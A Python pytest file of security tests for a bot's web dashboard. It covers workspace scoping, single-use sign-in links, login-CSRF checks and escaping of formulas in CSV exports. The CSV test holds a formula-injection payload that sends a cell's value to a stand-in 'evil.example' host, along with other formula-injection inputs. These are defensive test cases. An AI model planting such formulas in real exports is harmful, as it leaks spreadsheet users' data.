"""A security review of the dashboard (bot/web): what a person may not see, the sign-in's
single use under concurrency and its login-CSRF guard, formulas in the CSV exports, and storage
failures answered with a page in the viewer's language. Over HTTP against `maturity-bot web`'s
app in a thread (no browser needed for these), signed in through real links."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from bot.storage import Storage
from bot.storage.pulses import PulseStore
from bot.storage.purge import Uninstalls
from bot.storage.web_sessions import WebSessionStore
from bot.web.chat_texts import chat_text
from bot.web.viewer import WebSession
from flows.i18n import t
from tests.fake_telegram import FakeTelegram, TgUser
from tests.postgres_server import database_gone
from tests.web_rig import serve_web, viewer_of, web_settings

NOW = "2026-03-02T09:00:00+00:00"
PULSE = {
    "model_id": "groeimodel", "cadence": "weekly", "weekday": 0, "hour": 9, "minute": 0,
    "timezone": "Europe/Amsterdam", "next_run_at": NOW, "lang": "en",
}  # fmt: skip
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sales")'


@pytest.fixture
def storage(tmp_path: Path):
    found = Storage(tmp_path / "bot.db")
    yield found
    found.close()


@pytest.fixture
def client_for(storage: Storage, models) -> Iterator:
    """`client_for(viewer)`: an HTTP client on `maturity-bot web`, signed in as `viewer` (None:
    not signed in) through a real link."""
    with serve_web(storage, models) as web, httpx.Client(base_url=web.base_url) as client:

        def signed_in(viewer=None) -> httpx.Client:
            if viewer is not None:
                token = WebSessionStore(storage).issue_link(viewer)
                response = client.post("/signin", data={"token": token})
                assert response.status_code == 303, response.text
            return client

        yield signed_in


# ---- (3) CSV: a team name someone typed is not a formula in a spreadsheet ----------------------
def test_the_organisation_csv_does_not_hand_a_spreadsheet_a_formula(storage, client_for):
    pulses = PulseStore(storage)
    pulses.save_pulse("slack", "C1", FORMULA, "T1:ULEAD", PULSE, NOW)
    pulses.save_pulse("slack", "C2", "+1 team", "T1:ULEAD", PULSE, NOW)
    pulses.save_pulse("slack", "C3", "@SUM(1)", "T1:ULEAD", PULSE, NOW)
    pulses.save_pulse("slack", "C4", "-2+3", "T1:ULEAD", PULSE, NOW)
    client = client_for(viewer_of("T1:UADMIN", workspace_admin=True))
    response = client.get("/organisation/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted(["'" + FORMULA, "'+1 team", "'@SUM(1)", "'-2+3"])
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


# ---- (1) scoping by URL ------------------------------------------------------------------------
def test_another_workspaces_admin_sees_no_team_page_export_or_report_of_it(storage, client_for):
    pulses = PulseStore(storage)
    pulses.save_pulse("slack", "C1", "Alpha", "T1:ULEAD", PULSE, NOW)
    team_id = pulses.pulse("slack", "C1").team_id
    outsider = client_for(viewer_of("T2:UADMIN", workspace_admin=True))
    for path in (
        f"/teams/{team_id}",
        f"/teams/{team_id}/export.csv",
        f"/teams/{team_id}/export.json",
        f"/report?team={team_id}",
        f"/report.pdf?team={team_id}",
    ):
        response = outsider.get(path)
        assert response.status_code == 404, path
        assert "Alpha" not in response.text, path
    assert "Alpha" not in outsider.get("/organisation/export.json").text
    assert "Alpha" not in outsider.get("/teams").text


# ---- (2) sign-in ---------------------------------------------------------------------------------
@pytest.fixture
def sessions(database_target):
    found = Storage(database_target)
    yield WebSessionStore(found)
    found.close()


def test_two_tabs_redeeming_one_link_at_once_get_one_session(sessions):
    token = sessions.issue_link(viewer_of("T1:U1"))
    start = threading.Barrier(8)
    outcomes: list = []

    def redeem() -> None:
        start.wait()
        outcomes.append(sessions.redeem_link(token, session_hours=8))

    threads = [threading.Thread(target=redeem) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    won = [o for o in outcomes if isinstance(o, WebSession)]
    assert len(outcomes) == 8
    assert len(won) == 1
    assert {getattr(o, "state", None) for o in outcomes if o not in won} == {"used"}
    rows = sessions.connection._rows("select count(*) as n from web_sessions")
    assert rows[0]["n"] == 1


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_another_site_cannot_sign_a_visitor_in(storage, client_for, site):
    """Login CSRF: a page on another site, also a sibling subdomain (same-site, not
    same-origin), must not post someone's link and sign the visitor in as them."""
    client = client_for()
    token = WebSessionStore(storage).issue_link(viewer_of("T1:UATTACKER"))
    response = client.post("/signin", data={"token": token}, headers={"Sec-Fetch-Site": site})
    assert response.status_code == 403
    assert not any("maturity_session" in name for name in response.cookies)
    assert WebSessionStore(storage).link_state(token).state == "valid"


@pytest.mark.parametrize(
    ("origin", "status"), [("https://evil.example", 403), ("null", 403), (None, 303), ("ours", 303)]
)
def test_a_browser_that_does_not_say_its_site_is_judged_by_its_origin(
    storage, client_for, origin, status
):
    """Without Sec-Fetch-Site (an older browser) the Origin header must be the dashboard's own;
    without either, there is nothing to judge by and the link's own secret is the check."""
    client = client_for()
    token = WebSessionStore(storage).issue_link(viewer_of("T1:U1"))
    headers = (
        {} if origin is None else {"Origin": str(client.base_url) if origin == "ours" else origin}
    )
    response = client.post("/signin", data={"token": token}, headers=headers)
    assert response.status_code == status
    assert WebSessionStore(storage).link_state(token).state == (
        "valid" if status == 403 else "used"
    )


def test_the_dashboards_own_sign_in_form_still_signs_in(storage, client_for):
    client = client_for()
    token = WebSessionStore(storage).issue_link(viewer_of("T1:U1"))
    response = client.post(
        "/signin",
        data={"token": token},
        headers={"Sec-Fetch-Site": "same-origin"},
    )
    assert response.status_code == 303
    assert response.headers["location"] == "/"


# ---- (4) storage errors ----------------------------------------------------------------------
def test_a_database_that_is_gone_is_a_page_in_the_viewers_language(postgres_url, models):
    """The database server goes away while someone is signed in: their next page is a 503 page
    in their browser's language that says to try again, not a traceback; it logs one line."""
    storage = Storage(postgres_url)
    try:
        with (
            serve_web(storage, models) as web,
            httpx.Client(base_url=web.base_url, timeout=60) as client,  # the pool waits first
        ):
            token = WebSessionStore(storage).issue_link(viewer_of("T1:U1", lang="nl"))
            assert client.post("/signin", data={"token": token}).status_code == 303
            assert client.get("/teams").status_code == 200
            with database_gone(postgres_url):
                response = client.get("/teams", headers={"Accept-Language": "nl"})
            assert response.status_code == 503
            assert "text/html" in response.headers["content-type"]
            assert '<html lang="nl">' in response.text
            assert "Traceback" not in response.text and "psycopg" not in response.text
            assert client.get("/teams").status_code == 200  # and back once it is back
    finally:
        storage.close()


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/signout", 405),
        ("GET", "/signin", 405),
        ("POST", "/", 405),
        ("POST", "/teams", 405),
    ],
)
def test_a_wrong_method_is_a_page_in_the_viewers_language(client_for, method, path, status):
    """Typing /signout in the address bar (a GET) is something a person does: our page, not
    Starlette's plain "Method Not Allowed"."""
    client = client_for(viewer_of("T1:U1", lang="nl"))
    response = client.request(method, path)
    assert response.status_code == status
    assert "text/html" in response.headers["content-type"]
    assert '<html lang="nl">' in response.text
    assert "Pagina niet gevonden" in response.text


def test_an_oversized_sign_in_form_is_a_page_too(client_for):
    client = client_for()
    response = client.post(
        "/signin",
        content=b"token=" + b"a" * 70_000,
        headers={"content-type": "application/x-www-form-urlencoded", "accept-language": "nl"},
    )
    assert response.status_code == 413
    assert "text/html" in response.headers["content-type"]
    assert '<html lang="nl">' in response.text


def test_telegram_dashboard_answers_when_the_database_is_gone(postgres_url, models):
    """/dashboard while the database server is gone: the person is told, in a reply, not left
    waiting (the bot's answer that their message could not be handled, or that the link could
    not be made)."""
    from tests.telegram_rig import Rig

    with FakeTelegram() as fake:
        rig = Rig(fake, postgres_url, models, web_settings=web_settings("http://x.test"))
        try:
            user = TgUser(3101)
            mark = fake.mark()
            fake.send(user, "/help")
            rig.message(user, "/dashboard", after=mark)  # known to the bot first
            mark = fake.mark()
            with database_gone(postgres_url):
                fake.send(user, "/dashboard")
                said = fake.wait_message(user.id, after=mark, timeout=60)  # waits for the pool
            answers = (chat_text("dashboard_failed", "en"), t("not_saved", "en"))
            assert said.shown() in answers, said.shown()
        finally:
            rig.stop()


@pytest.mark.parametrize(
    ("member", "workspace", "sees"),
    [
        ("E1:T1:UADMIN", "E1:T1", ["Grid one"]),
        ("E1:T2:UADMIN", "E1:T2", ["Grid two"]),
        ("T1:UADMIN", "T1", ["Plain one"]),
    ],
)
def test_an_admin_sees_only_their_own_workspace_also_on_enterprise_grid(
    storage, client_for, member, workspace, sees
):
    """OAuth mode: teams are `E…:T…:C…` / `T…:C…`, members `E…:T…:U…` / `T…:U…`; a workspace
    admin's organisation is their workspace, not a workspace whose id starts the same."""
    pulses = PulseStore(storage)
    pulses.save_pulse("slack", "E1:T1:C1", "Grid one", "E1:T1:ULEAD", PULSE, NOW)
    pulses.save_pulse("slack", "E1:T2:C2", "Grid two", "E1:T2:ULEAD", PULSE, NOW)
    pulses.save_pulse("slack", "T1:C3", "Plain one", "T1:ULEAD", PULSE, NOW)
    client = client_for(viewer_of(member, workspace=workspace, workspace_admin=True))
    shown = [row["team"] for row in client.get("/organisation/export.json").json()]
    assert shown == sees
    ids = {pulses.pulse("slack", t).team_id: n for t, n in [
        ("E1:T1:C1", "Grid one"), ("E1:T2:C2", "Grid two"), ("T1:C3", "Plain one")]}  # fmt: skip
    for team_id, name in ids.items():
        status = client.get(f"/teams/{team_id}/export.json").status_code
        assert status == (200 if name in sees else 404), name


def test_a_report_button_pressed_in_a_channel_sends_the_link_to_the_dm_only(storage, models):
    """A sign-in link is the person's own: a result card's button pressed outside the DM (a
    message in a channel) gets its link in the person's DM, never in that channel."""
    from bot.slack.render import ACTION_CHOICE
    from tests.fake_slack import FakeSlack, Message
    from tests.test_web_signin import SlackWithDashboard

    with FakeSlack() as fake:
        rig = SlackWithDashboard(fake, storage, models)
        try:
            message = Message("C0TEAM", "1700000000.000100", "result", [])
            action = {
                "action_id": f"{ACTION_CHOICE}6",
                "block_id": "follow_up",
                "type": "button",
                "value": "c:report",
            }
            mark = fake.mark()
            assert rig.send.action("U7", action, message=message).status_code == 200
            sent = fake.wait_for(
                "chat.postMessage", lambda c: "/signin/" in str(c.params.get("text")), after=mark
            )
            assert sent.params["channel"] == "DU7"
            posted = [c.params.get("channel") for c in fake.calls_to("chat.postMessage", mark)]
            assert "C0TEAM" not in posted
        finally:
            rig.stack.close()


# ---- a pulse its workspace's uninstall stopped ---------------------------------------------------
@pytest.mark.parametrize("lang", ["nl", "en"])
def test_the_teams_page_names_a_pulse_the_uninstall_stopped(storage, client_for, lang):
    PulseStore(storage).save_pulse("slack", "C1", "Alpha", "T1:ULEAD", PULSE, NOW)
    assert Uninstalls(storage).stop_pulses("T1") == 1
    response = client_for(viewer_of("T1:ULEAD", lang=lang)).get("/teams")
    assert response.status_code == 200
    assert "Alpha" in response.text
    assert t("pulse_state_uninstalled", lang) in response.text
